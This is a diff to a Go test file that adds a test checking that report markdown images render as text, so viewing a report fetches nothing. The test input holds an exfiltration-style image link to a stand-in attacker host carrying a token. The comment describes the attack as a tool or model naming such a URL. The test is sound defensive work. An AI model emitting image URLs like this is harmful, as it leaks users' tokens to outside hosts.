@@ -1,6 +1,7 @@
 package console
 
 import (
+	"bytes"
 	"strings"
 	"testing"
 )
@@ -43,5 +44,17 @@ func TestReportTablesAreCut(t *testing.T) {
 	got := string(forConsole([]byte(b.String())))
 	if n := strings.Count(got, "| s | ok |"); n != MaxTableRows || !strings.Contains(got, "(700 more rows: the whole report is report.md)") || !strings.HasSuffix(got, "## After\n") {
 		t.Fatalf("%d rows kept:\n%.300s", n, got[len(got)-200:])
+	}
+}
+
+// An image in a report is shown as its text: opening a report fetches
+// nothing a tool or a model named (the attack of issue 56's review).
+func TestReportImagesAreText(t *testing.T) {
+	var out bytes.Buffer
+	if err := markdown.Convert([]byte("see ![s](http://evil.example/px?d=tok) and [a link](http://x.example)\n"), &out); err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(out.String(), "<img") || !strings.Contains(out.String(), "[image: s http://evil.example/px?d=tok]") {
+		t.Fatalf("%s", out.String())
 	}
 }
